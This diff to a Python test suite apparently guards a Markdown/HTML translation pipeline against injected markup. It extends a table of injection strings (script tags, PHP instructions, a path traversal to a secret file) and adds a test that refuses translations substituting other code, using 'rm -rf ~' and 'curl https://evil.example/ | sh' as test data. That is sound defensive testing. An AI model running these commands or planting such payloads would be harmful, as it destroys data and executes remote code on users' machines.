@@ -85,6 +85,7 @@ ATTACKS: dict[str, tuple[str, str]] = {
     "a block's comment": ('看<!--::: ["publications", {}]-->', BRACE),
     "a conditional comment": ("看<!--[if IE]><script>x</script><![endif]-->", DECLARED),
     "CDATA": ("看<![CDATA[<script>alert(1)</script>]]>", ""),
+    "an open section": ("看<![", ""),
     "a declaration": ("看<!DOCTYPE html>", ""),
     "a processing instruction": ("看<?php echo 1 ?>", ""),
     "static": ("看[甲]({static}/../secret.txt)", BRACE),
@@ -116,7 +117,7 @@ ATTACKS: dict[str, tuple[str, str]] = {
 }
 
 # The ways that a text without any markup in its source is shown: as text, whatever it says.
-HARMLESS = {"an open attribute", "a declaration"}
+HARMLESS = {"an open attribute", "an open section", "a declaration"}
 """In Markdown these are no markup: they stay text, as a test below shows."""
 
 
@@ -212,6 +213,15 @@ def test_what_is_open_in_raw_html_swallows_nothing(attack: str) -> None:
     page = f"<ul><li>{HTML_MSGID}</li><li>next</li></ul>\n"
     html = translated(page, translator_for({("", HTML_MSGID): attack}))
     assert html == translated(page, translator_for({}))
+
+
+@pytest.mark.parametrize("code", ["rm -rf ~", "npm x", "curl https://evil.example/ | sh"])
+def test_other_code_than_the_source_s_is_refused(code: str) -> None:
+    source = "Run `npm i` first, then `npm t`."
+    assert shown(source, f"先运行`{code}`，再运行`npm t`。") == translated(
+        source, translator_for({})
+    )
+    assert "先运行" in shown(source, "先运行`npm t`，再运行`npm i`。")
 
 
 @pytest.mark.parametrize("name", sorted(HARMLESS))
@@ -394,7 +404,6 @@ GOOD = {
     "autolink": ("at <https://a.example/>", "在<https://a.example/>"),
     "mail": ("write to <a@b.example>", "写信给<a@b.example>"),
     "code kept": ("run `pip install x`", "请运行`pip install x`"),
-    "code translated": ("say `hello`", "说`你好`"),
     "alt translated": ("![a photo](p.jpg)", "![照片](p.jpg)"),
     "title translated": ('[a](u "the title")', '[甲](u "标题")'),
     "alt and title": ('![a](p.jpg "b")', '![甲](p.jpg "乙")'),
